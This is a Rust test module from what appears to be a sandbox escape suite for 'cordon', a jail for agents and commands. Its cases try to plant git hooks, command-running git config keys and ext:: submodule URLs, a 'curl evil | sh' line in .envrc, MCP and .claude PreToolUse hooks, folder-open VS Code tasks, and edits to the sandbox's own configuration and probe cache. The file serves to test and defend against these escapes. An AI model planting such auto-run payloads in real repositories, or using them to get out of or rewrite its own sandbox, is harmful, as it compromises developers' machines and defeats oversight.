//! Class 2: writes to protected paths inside the (writable) workspace, judged on the host.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use super::harness::{Ctx, q, qp};
use super::matrix::{Outcome, Verdict};
use super::{Case, Class};

pub fn cases() -> Vec<Case> {
    let c = Class::Protected;
    vec![
        Case::attack(
            "protected/git-hooks",
            c,
            "plant .git/hooks/pre-commit, replace and remove the sample hooks",
            git_hooks,
        ),
        Case::attack(
            "protected/git-config",
            c,
            "`git config core.hooksPath` / `core.fsmonitor`, append to and replace .git/config",
            git_config,
        ),
        Case::attack(
            "protected/git-config-mode",
            c,
            "chmod 666 .git/config (host git then reads what any local user writes)",
            git_config_mode,
        ),
        Case::attack(
            "protected/git-config-broker",
            c,
            "plant every command-running git key through the configuration broker (`git config …`), judged with host `git config --get`",
            git_config_broker,
        ),
        Case::attack(
            "protected/git-submodule-config",
            c,
            "`git submodule add` a local repository, then plant core.fsmonitor and an alias in its .git/modules config",
            git_submodule_config,
        ),
        Case::attack(
            "protected/git-dir-rename",
            c,
            "rename .git away and recreate .git/hooks and .git/config around the protected mounts",
            git_dir_rename,
        ),
        Case::attack(
            "protected/git-commondir",
            c,
            "redirect git to another config and hooks by writing .git/commondir",
            git_commondir,
        ),
        Case::attack(
            "protected/control-dir",
            c,
            "write the agent's control directory .cordon/ and the project file .cordon.toml",
            control_dir,
        ),
        Case::attack(
            "protected/ide-settings",
            c,
            "edit .vscode/settings.json, add .vscode/tasks.json, .idea and .devcontainer files",
            ide_settings,
        ),
        Case::attack(
            "protected/auto-run-files",
            c,
            "edit .envrc, .mcp.json, .claude/settings.json, .husky/pre-commit, .gitmodules (also with git config -f)",
            auto_run_files,
        ),
        Case::attack(
            "protected/replace",
            c,
            "remove, rename away, or rename over each protected path",
            replace,
        ),
        Case::attack(
            "protected/missing-auto-run-dirs",
            c,
            "create .vscode, .claude, .idea, .devcontainer, .husky, .cordon where none existed",
            missing_dirs,
        ),
        Case::attack(
            "protected/linked-worktree",
            c,
            "from a linked worktree: the shared hooks and config, the worktree's config and commondir",
            linked_worktree,
        ),
        Case::attack(
            "protected/writable-parent",
            c,
            "`--write <parent of the workspace>`: plant .git/hooks/pre-commit, rewrite .git/config, move .git away",
            writable_parent,
        ),
        Case::attack(
            "protected/cordon-config",
            c,
            "`--write ~/.config --write ~/.cache`: rewrite or create cordon's global configuration, rewrite or add to its probe cache",
            cordon_config,
        ),
        Case::attack(
            "protected/worktree-profile",
            c,
            "the git-worktree profile (admin dirs writable): hooks, config, commondir, gitdir stay put",
            worktree_profile,
        ),
    ]
}

/// Runs git on the host as root (the tree is handed to the user afterwards).
pub(crate) fn git(ctx: &Ctx<'_>, dir: &Path, args: &[&str]) -> Result<String, String> {
    let out = Command::new("git")
        .args([
            "-c",
            "user.name=escape",
            "-c",
            "user.email=escape@example.invalid",
            "-c",
            "init.defaultBranch=main",
            "-c",
            "safe.directory=*",
        ])
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("HOME", &ctx.home)
        .env("PATH", super::harness::STD_PATH)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdin(Stdio::null())
        .output()
        .map_err(|e| format!("git: {e}"))?;
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_owned())
    } else {
        Err(format!(
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        ))
    }
}

/// A repository with one commit in the workspace, sample hooks kept.
pub(crate) fn repo(ctx: &Ctx<'_>, dir: &Path) -> Result<(), String> {
    git(ctx, dir, &["init", "-q", "."])?;
    std::fs::write(dir.join("README"), "hello\n").map_err(|e| e.to_string())?;
    git(ctx, dir, &["add", "README"])?;
    git(ctx, dir, &["commit", "-qm", "init"])?;
    std::fs::write(dir.join(".git/hooks/post-checkout.sample"), "#!/bin/sh\n")
        .map_err(|e| e.to_string())?;
    super::harness::chown_r(dir, ctx.ids).map_err(|e| e.to_string())
}

/// Everything below `paths` (names, kinds, contents) as text, to compare before and after.
pub(crate) fn snapshot(paths: &[PathBuf]) -> String {
    fn walk(p: &Path, out: &mut String) {
        match std::fs::symlink_metadata(p) {
            Err(_) => out.push_str(&format!("{}: absent\n", p.display())),
            Ok(m) if m.is_dir() => {
                out.push_str(&format!("{}: dir\n", p.display()));
                let mut entries: Vec<PathBuf> = std::fs::read_dir(p)
                    .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
                    .unwrap_or_default();
                entries.sort();
                for e in entries {
                    walk(&e, out);
                }
            }
            Ok(m) if m.file_type().is_symlink() => out.push_str(&format!(
                "{}: link {:?}\n",
                p.display(),
                std::fs::read_link(p).ok()
            )),
            Ok(m) if is_git_config(p) => out.push_str(&git_reads(p, m.permissions().mode())),
            Ok(_) => out.push_str(&format!(
                "{}: {:?}\n",
                p.display(),
                std::fs::read(p).unwrap_or_default()
            )),
        }
    }
    let mut out = String::new();
    for p in paths {
        walk(p, &mut out);
    }
    out
}

/// Whether `p` is a git configuration (`config` or `config.worktree` below a `.git`).
fn is_git_config(p: &Path) -> bool {
    matches!(
        p.file_name().and_then(|n| n.to_str()),
        Some("config" | "config.worktree")
    ) && p.components().any(|c| c.as_os_str() == ".git")
}

/// A git configuration as host git reads it, one line per entry (`git config --file --list`,
/// no includes followed: an include is an entry), and whether others may write it. Under the
/// copy-on-write layer the commit merges a changed configuration (command-running keys
/// dropped), so its bytes may differ while git reads nothing the command planted: the judge is
/// what git reads, not the bytes.
fn git_reads(p: &Path, mode: u32) -> String {
    let listed = Command::new("git")
        .args(["config", "--no-includes", "--file"])
        .arg(p)
        .arg("--list")
        .env_clear()
        .env("PATH", super::harness::STD_PATH)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdin(Stdio::null())
        .output();
    let mut out = format!("{}: git configuration\n", p.display());
    match listed {
        Ok(o) if o.status.success() => {
            for entry in String::from_utf8_lossy(&o.stdout).lines() {
                out.push_str(&format!("{}{ENTRY}{entry}\n", p.display()));
            }
        }
        _ => out.push_str(&format!(
            "{}: unreadable by git {:?}\n",
            p.display(),
            std::fs::read(p).unwrap_or_default()
        )),
    }
    if mode & 0o002 != 0 {
        out.push_str(&format!("{}: writable by others\n", p.display()));
    }
    out
}

/// Marks a line of [`snapshot`] that is one entry of a git configuration.
const ENTRY: &str = ": git-entry ";

/// Whether the host changed between two [`snapshot`]s: a line appeared or disappeared, but a
/// git configuration's entry that disappeared (a key the command unset, kept out of nothing
/// host git runs) is no change.
pub(crate) fn changed(before: &str, after: &str) -> bool {
    use std::collections::BTreeSet;
    let a: BTreeSet<&str> = before.lines().collect();
    let b: BTreeSet<&str> = after.lines().collect();
    b.difference(&a).next().is_some() || a.difference(&b).any(|l| !l.contains(ENTRY))
}

/// The first line that differs, for the detail.
pub(crate) fn diff(before: &str, after: &str) -> String {
    let a: Vec<&str> = before.lines().collect();
    let b: Vec<&str> = after.lines().collect();
    for i in 0..a.len().max(b.len()) {
        if a.get(i) != b.get(i) {
            return format!(
                "before: {:?} / after: {:?}",
                a.get(i).map(|s| super::harness::cut(s, 120)),
                b.get(i).map(|s| super::harness::cut(s, 120))
            );
        }
    }
    "unchanged".into()
}

pub(crate) fn harness_err(e: String) -> Outcome {
    Outcome::new(Verdict::Inconclusive, format!("harness: {e}"))
}

/// Plants `files` (relative to the workspace), runs `steps` (each one judged to have run), and
/// judges that `watch` did not change on the host.
fn guarded(
    ctx: &Ctx<'_>,
    with_repo: bool,
    files: &[(&str, &str)],
    watch: &[&str],
    steps: &[&str],
) -> Outcome {
    if with_repo && let Err(e) = repo(ctx, &ctx.work) {
        return harness_err(e);
    }
    for (rel, content) in files {
        if let Err(e) = ctx.file(rel, content) {
            return harness_err(e);
        }
    }
    if let Err(e) = ctx.scratch() {
        return harness_err(e);
    }
    let watch: Vec<PathBuf> = watch.iter().map(|w| ctx.work.join(w)).collect();
    let before = snapshot(&watch);
    let out = ctx.sh_steps(steps);
    let after = snapshot(&watch);
    ctx.judge(&out, changed(&before, &after), diff(&before, &after))
}

fn git_hooks(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        true,
        &[],
        &[".git/hooks"],
        &[
            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit",
            "chmod +x .git/hooks/pre-commit",
            "cp .git/hooks/post-checkout.sample .git/hooks/post-checkout",
            "rm -f .git/hooks/*.sample",
            "ln -s /bin/true .git/hooks/post-merge",
        ],
    )
}

fn git_config(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        true,
        &[],
        &[".git/config"],
        &[
            "git config core.hooksPath ./evil-hooks",
            "git config core.fsmonitor 'touch /tmp/pwned'",
            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
            "cp .git/config scratch/cfg && echo '[alias] st = !sh' >> scratch/cfg && cp scratch/cfg .git/config",
            "sed -i 's/bare = false/bare = false\\n\\tpager = sh/' .git/config",
        ],
    )
}

fn git_config_mode(ctx: &Ctx<'_>) -> Outcome {
    guarded(ctx, true, &[], &[".git/config"], &["chmod 666 .git/config"])
}

fn git_dir_rename(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        true,
        &[],
        &[".git"],
        &[
            "mv .git .git-moved || mv .git/hooks .git/hooks-moved",
            "mkdir -p .git/hooks",
            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit",
            "chmod +x .git/hooks/pre-commit",
            "cp -r .git-moved/objects .git-moved/refs .git-moved/HEAD .git/ 2>/dev/null",
            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config",
            "python3 -c 'import os; os.rename(\".git\", \".git-py\")' 2>/dev/null",
            "rmdir .git 2>/dev/null",
        ],
    )
}

fn git_commondir(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        true,
        &[],
        &[".git/commondir", ".git/config", ".git/hooks"],
        &[
            "mkdir -p scratch/evil-common && cp -r .git/objects .git/refs .git/HEAD scratch/evil-common/ && \
             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch /tmp/pwned\\n' > scratch/evil-common/config",
            "echo ../scratch/evil-common > .git/commondir",
            "echo evil > .git/config.worktree",
        ],
    )
}

fn control_dir(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        false,
        &[
            (".cordon/state.json", "{\"ORIGINAL\": true}\n"),
            (".cordon.toml", "[limits]\ntimeout_secs = 100\n"),
        ],
        &[".cordon", ".cordon.toml"],
        &[
            "echo '{\"evil\": true}' > .cordon/state.json",
            "echo evil > .cordon/new",
            "printf '[network]\\nmode = \"allow\"\\n' >> .cordon.toml",
            "rm -rf .cordon/*",
        ],
    )
}

fn ide_settings(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        false,
        &[
            (".vscode/settings.json", "{}\n"),
            (".idea/workspace.xml", "<project/>\n"),
            (".devcontainer/devcontainer.json", "{}\n"),
        ],
        &[".vscode", ".idea", ".devcontainer"],
        &[
            "echo '{\"terminal.integrated.env.linux\": {\"PATH\": \"/evil\"}}' > .vscode/settings.json",
            "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json",
            "echo evil > .idea/workspace.xml",
            "echo '{\"postStartCommand\": \"evil\"}' > .devcontainer/devcontainer.json",
        ],
    )
}

fn auto_run_files(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        false,
        &[
            (".envrc", "export A=1\n"),
            (".mcp.json", "{\"mcpServers\": {}}\n"),
            (".claude/settings.json", "{}\n"),
            (".husky/pre-commit", "npm test\n"),
            (".gitmodules", ""),
        ],
        &[".envrc", ".mcp.json", ".claude", ".husky", ".gitmodules"],
        &[
            "echo 'curl evil | sh' >> .envrc",
            "echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json",
            "echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json",
            "echo evil > .husky/pre-commit",
            "printf '[submodule \"x\"]\\n\\turl = ext::sh -c evil\\n' > .gitmodules",
            // Through git's own lock file and rename, which the Landlock backend's supervisor
            // brokers: an update command is no plain registration.
            "git config -f .gitmodules submodule.x.update '!touch evil'",
        ],
    )
}

fn replace(ctx: &Ctx<'_>) -> Outcome {
    guarded(
        ctx,
        true,
        &[
            (".vscode/settings.json", "{}\n"),
            (".envrc", "export A=1\n"),
            (".cordon/state.json", "{}\n"),
        ],
        &[".git/hooks", ".git/config", ".vscode", ".envrc", ".cordon"],
        &[
            "for p in .git/hooks .git/config .vscode .envrc .cordon; do rm -rf \"$p\"; mv \"$p\" \"$p.old\"; done",
            "echo evil > scratch/evil",
            "for p in .git/config .envrc; do mv -f scratch/evil \"$p\"; cp scratch/evil \"$p\"; done",
            "mkdir -p scratch/evil-dir",
            "mv -T scratch/evil-dir .vscode",
            "ln -sfn /tmp .cordon",
        ],
    )
}

fn missing_dirs(ctx: &Ctx<'_>) -> Outcome {
    let names = [
        ".vscode",
        ".claude",
        ".idea",
        ".devcontainer",
        ".husky",
        ".cordon",
    ];
    let out = ctx.sh_steps(&[
        "for d in .vscode .claude .idea .devcontainer .husky .cordon; do mkdir -p \"$d\" && echo evil > \"$d/evil\"; done",
        "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"},\"command\":\"evil\"}]}' > .vscode/tasks.json",
        "echo '{\"hooks\":{\"PreToolUse\":[{\"command\":\"evil\"}]}}' > .claude/settings.json",
    ]);
    let hit: Vec<&str> = names
        .iter()
        .copied()
        .filter(|n| ctx.work.join(n).join("evil").exists())
        .collect();
    ctx.judge(
        &out,
        !hit.is_empty(),
        format!("created on the host: {hit:?}"),
    )
}

/// A main repository in the home and a linked worktree of it at `home/wt`.
fn worktree(ctx: &Ctx<'_>) -> Result<(PathBuf, PathBuf), String> {
    let main = ctx.home.join("main-repo");
    std::fs::create_dir_all(&main).map_err(|e| e.to_string())?;
    repo(ctx, &main)?;
    git(ctx, &main, &["worktree", "add", "-q", "../wt"])?;
    let wt = ctx.home.join("wt");
    super::harness::chown_r(&ctx.home, ctx.ids).map_err(|e| e.to_string())?;
    Ok((main, wt))
}

fn worktree_attack(ctx: &Ctx<'_>, profile: Option<&str>) -> Outcome {
    let (main, wt) = match worktree(ctx) {
        Ok(x) => x,
        Err(e) => return harness_err(e),
    };
    let admin = main.join(".git/worktrees/wt");
    let watch = vec![
        main.join(".git/hooks"),
        main.join(".git/config"),
        admin.join("commondir"),
        admin.join("gitdir"),
        admin.join("config.worktree"),
        wt.join(".git"),
    ];
    let before = snapshot(&watch);
    if ctx.column.landlock() {
        // Under Landlock nothing can be created directly in a workspace root (a documented
        // limit); the worktree's canary must exist for the payload to prove it ran.
        if let Err(e) = ctx.plant(&wt.join("escape-canary"), "") {
            return harness_err(e);
        }
    }
    let (script, markers) = super::harness::marked(&[
        "c=$(git rev-parse --git-common-dir); a=$(git rev-parse --git-dir)",
        "echo evil > \"$c/hooks/pre-commit\"",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "echo '[core] fsmonitor = evil' >> \"$c/config\"",
        "echo evil > \"$a/config.worktree\"",
        "mkdir -p ../evil-common",
        "echo ../../../../evil-common > \"$a/commondir\"",
        "echo /tmp/x > \"$a/gitdir\"",
        "echo 'gitdir: ../evil' > .git",
        "mv \"$a\" \"$a.moved\"",
    ]);
    let mut run = ctx
        .cordon()
        .cwd(&wt)
        .args(["--cwd".into(), wt.clone().into_os_string()]);
    if let Some(p) = profile {
        run = run.no_posture().args(["--profile", p]);
    }
    let full = format!("printf %s {} > escape-canary; {script}", ctx.token);
    let out = run
        .payload(["/bin/sh", "-c", full.as_str()])
        .expect_steps(markers)
        .run();
    let after = snapshot(&watch);
    // The canary lives in the default workspace; this case's workspace is the worktree.
    let canary = wt.join("escape-canary");
    if std::fs::read_to_string(&canary).is_ok_and(|t| t == ctx.token) {
        let _ = std::fs::write(ctx.canary_path(), &ctx.token);
    }
    ctx.judge(&out, changed(&before, &after), diff(&before, &after))
}

fn linked_worktree(ctx: &Ctx<'_>) -> Outcome {
    worktree_attack(ctx, None)
}

fn worktree_profile(ctx: &Ctx<'_>) -> Outcome {
    worktree_attack(ctx, Some("git-worktree"))
}

/// A repository one level below the directory the caller makes writable (`--write <parent>`,
/// the usability run's finding): the workspace's protected paths stay read-only inside it.
fn writable_parent(ctx: &Ctx<'_>) -> Outcome {
    let inner = ctx.work.join("inner");
    if let Err(e) = std::fs::create_dir_all(&inner)
        .map_err(|e| e.to_string())
        .and_then(|()| repo(ctx, &inner))
        .and_then(|()| ctx.scratch().map(|_| ()))
    {
        return harness_err(e);
    }
    let watch = vec![inner.join(".git/hooks"), inner.join(".git/config")];
    let before = snapshot(&watch);
    let out = ctx
        .cordon()
        .cwd(&inner)
        .args([
            "--cwd".into(),
            inner.clone().into_os_string(),
            "--write".into(),
            ctx.work.clone().into_os_string(),
        ])
        .steps(&[
            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit",
            "chmod +x .git/hooks/pre-commit",
            "git config core.hooksPath ./evil-hooks",
            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
            "cp .git/config ../scratch/cfg && echo '[alias] st = !sh' >> ../scratch/cfg && cp ../scratch/cfg .git/config",
            "mv .git/hooks ../scratch/hooks-moved",
            "mv .git ../scratch/git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
        ])
        .run();
    let after = snapshot(&watch);
    ctx.judge(&out, changed(&before, &after), diff(&before, &after))
}

/// cordon's own configuration and probe cache inside directories the caller makes writable:
/// `~/.config/cordon/config.toml` exists (trusted: it could remove the default masks for every
/// later run), `$XDG_CONFIG_HOME/cordon` does not, and `$XDG_CACHE_HOME/cordon` holds what the
/// launcher's probe wrote before the jail and the planning host's `#!` lines and `PATH` walks
/// (`heads/`).
fn cordon_config(ctx: &Ctx<'_>) -> Outcome {
    let config = ctx.home.join(".config/cordon/config.toml");
    let xdg_config = ctx.home.join("xdg");
    let cache = ctx.home.join(".cache");
    let trusted = "# trusted global configuration\n";
    let made = ctx
        .plant(&config, trusted)
        .and_then(|()| ctx.plant(&xdg_config.join(".keep"), ""))
        .and_then(|()| ctx.plant(&cache.join("cordon/.keep"), ""))
        // The planning host's record of `PATH` programs' `#!` lines and walks (a forged one
        // would steer what the next run shows of the home).
        .and_then(|()| ctx.plant(&cache.join("cordon/heads/0.json"), "{}"))
        .and_then(|()| ctx.scratch().map(|_| ()));
    if let Err(e) = made {
        return harness_err(e);
    }
    let evil = format!("EVIL-{}", ctx.token);
    let write = |d: &Path| ["--write".into(), d.as_os_str().to_owned()];
    let steps = [
        "echo '[filesystem]' >> \"$HOME/.config/cordon/config.toml\"".to_owned(),
        "printf '[filesystem]\\n' > \"$HOME/.config/cordon/config.toml\"".to_owned(),
        "cp \"$HOME/.config/cordon/config.toml\" scratch/cfg && echo '# x' >> scratch/cfg && mv scratch/cfg \"$HOME/.config/cordon/config.toml\"".to_owned(),
        "rm -f \"$HOME/.config/cordon/config.toml\"".to_owned(),
        "mv \"$HOME/.config/cordon\" scratch/config-moved".to_owned(),
        // The relocated directories by their literal paths: the jail is not given
        // XDG_CONFIG_HOME or XDG_CACHE_HOME (an attacker knows them anyway).
        format!(
            "mkdir -p {x}/cordon && echo '[filesystem]' > {x}/cordon/config.toml",
            x = qp(&xdg_config)
        ),
        format!("for f in {c}/cordon/*; do echo {evil} > \"$f\"; done", c = qp(&cache)),
        format!("echo {evil} > {c}/cordon/probe-0.json", c = qp(&cache)),
        format!(
            "for f in {c}/cordon/heads/*; do echo {evil} > \"$f\"; done; echo {evil} > {c}/cordon/heads/1.json",
            c = qp(&cache)
        ),
        format!("mv {c}/cordon scratch/cache-moved", c = qp(&cache)),
    ];
    let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
    // `--live`: a writable root that holds cordon's own cache refuses the default layer (its
    // commit keeps its journal there; crates/cordon/tests/cli/roots.rs proves the refusal), so
    // what is tested here is live mode's read-only state inside such a root.
    let out = ctx
        .cordon()
        .env("XDG_CONFIG_HOME", &xdg_config.display().to_string())
        .env("XDG_CACHE_HOME", &cache.display().to_string())
        .args(["--live"])
        .args(write(&ctx.home.join(".config")))
        .args(write(&cache))
        .args(write(&xdg_config))
        .steps(&steps)
        .run();
    let mut found: Vec<String> = Vec::new();
    if std::fs::read_to_string(&config).ok().as_deref() != Some(trusted) {
        found.push(format!("{} rewritten or gone", config.display()));
    }
    if xdg_config.join("cordon").exists() {
        found.push("$XDG_CONFIG_HOME/cordon created".into());
    }
    for dir in [cache.join("cordon"), cache.join("cordon/heads")] {
        match std::fs::read_dir(&dir) {
            Err(_) => found.push(format!("{} moved away", dir.display())),
            Ok(entries) => {
                for e in entries.flatten() {
                    if std::fs::read_to_string(e.path()).is_ok_and(|t| t.contains(&evil)) {
                        found.push(format!("{} written", e.path().display()));
                    }
                }
            }
        }
    }
    let detail = if found.is_empty() {
        "cordon's configuration and probe cache unchanged".to_owned()
    } else {
        found.join("; ")
    };
    ctx.judge(&out, !found.is_empty(), detail)
}

/// Used by the usability rows: a repository the payload commits into.
pub fn make_repo(ctx: &Ctx<'_>) -> Result<(), String> {
    repo(ctx, &ctx.work)
}

/// A repository with one commit at `dir`.
pub fn make_repo_at(ctx: &Ctx<'_>, dir: &Path) -> Result<(), String> {
    repo(ctx, dir)
}

/// `git config --get KEY` in `dir`, on the host.
pub fn host_git_get(ctx: &Ctx<'_>, dir: &Path, key: &str) -> Option<String> {
    git(ctx, dir, &["config", "--local", "--get", key]).ok()
}

/// Every command-running key the broker refuses, with a harmless value: nothing here is ever run
/// (the judge reads them with `git config --get`).
const PLANTED_KEYS: &[(&str, &str)] = &[
    ("core.fsmonitor", "false"),
    ("core.hooksPath", "./evil-hooks"),
    ("core.pager", "false"),
    ("core.editor", "false"),
    ("core.sshCommand", "false"),
    ("core.askPass", "false"),
    ("core.gitProxy", "false"),
    ("core.worktree", "/"),
    ("core.attributesFile", "./evil-attributes"),
    ("sequence.editor", "false"),
    ("pager.log", "false"),
    ("alias.st", "!false"),
    ("filter.evil.clean", "false"),
    ("filter.evil.process", "false"),
    ("diff.external", "false"),
    ("diff.evil.textconv", "false"),
    ("merge.evil.driver", "false"),
    ("include.path", "./evil-include"),
    ("includeIf.gitdir:/.path", "./evil-include"),
    ("credential.helper", "false"),
    ("gpg.program", "false"),
    ("uploadpack.packObjectsHook", "false"),
    ("remote.origin.uploadpack", "false"),
    ("remote.origin.receivepack", "false"),
    ("remote.evil.url", "ext::false"),
    ("url.ext::false.insteadOf", "https://example.invalid/"),
    ("submodule.evil.update", "!false"),
    ("protocol.ext.allow", "always"),
    ("http.proxy", "http://proxy.invalid:1"),
    ("trace2.eventTarget", "./evil-trace"),
    ("extensions.worktreeConfig", "true"),
    ("difftool.evil.cmd", "false"),
    ("interactive.diffFilter", "false"),
];

fn git_config_broker(ctx: &Ctx<'_>) -> Outcome {
    if let Err(e) = repo(ctx, &ctx.work) {
        return harness_err(e);
    }
    let steps: Vec<String> = PLANTED_KEYS
        .iter()
        .map(|(k, v)| {
            format!(
                "git config --add {} {}",
                super::harness::q(k),
                super::harness::q(v)
            )
        })
        .collect();
    let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
    let out = ctx.sh_steps(&steps);
    // Judged on the host: which keys the repository's configuration now has.
    let reached: Vec<&str> = PLANTED_KEYS
        .iter()
        .filter(|(k, _)| {
            git(ctx, &ctx.work, &["config", "--local", "--get-all", k]).is_ok_and(|v| !v.is_empty())
        })
        .map(|(k, _)| *k)
        .collect();
    ctx.judge(
        &out,
        !reached.is_empty(),
        format!(
            "{} of {} keys reached .git/config: {reached:?}",
            reached.len(),
            PLANTED_KEYS.len()
        ),
    )
}

fn git_submodule_config(ctx: &Ctx<'_>) -> Outcome {
    if let Err(e) = repo(ctx, &ctx.work) {
        return harness_err(e);
    }
    // The submodule's source: a repository inside the workspace, as a vendored one would be.
    let upstream = ctx.work.join("upstream");
    if let Err(e) = std::fs::create_dir_all(&upstream)
        .map_err(|e| e.to_string())
        .and_then(|()| repo(ctx, &upstream))
    {
        return harness_err(e);
    }
    // A `file://` URL: git clones a plain local path by hard-linking its objects and checks
    // each link's inode, which overlayfs in a user namespace changes (docs/limits.md).
    let add = format!(
        "git -c protocol.file.allow=always submodule add -q {} lib",
        q(&format!("file://{}", upstream.display()))
    );
    let out = ctx.sh_steps(&[
        &add,
        "git -C lib config core.fsmonitor false",
        "git -C lib config alias.st '!false'",
        "git -C lib config core.hooksPath ./evil-hooks",
    ]);
    let module = ctx.work.join(".git/modules/lib");
    let reached: Vec<&str> = ["core.fsmonitor", "alias.st", "core.hooksPath"]
        .into_iter()
        .filter(|k| {
            module.join("config").is_file()
                && git(ctx, &module, &["config", "--local", "--get-all", k])
                    .is_ok_and(|v| !v.is_empty())
        })
        .collect();
    ctx.judge(
        &out,
        !reached.is_empty(),
        format!("keys in .git/modules/lib/config after the run: {reached:?}"),
    )
}
